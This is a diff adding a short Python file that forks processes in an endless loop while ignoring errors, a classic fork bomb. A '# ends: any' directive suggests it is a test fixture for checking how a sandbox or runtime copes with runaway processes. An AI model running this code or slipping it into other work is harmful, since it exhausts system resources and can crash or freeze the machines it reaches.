@@ -1,0 +1,7 @@
+# ends: any
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
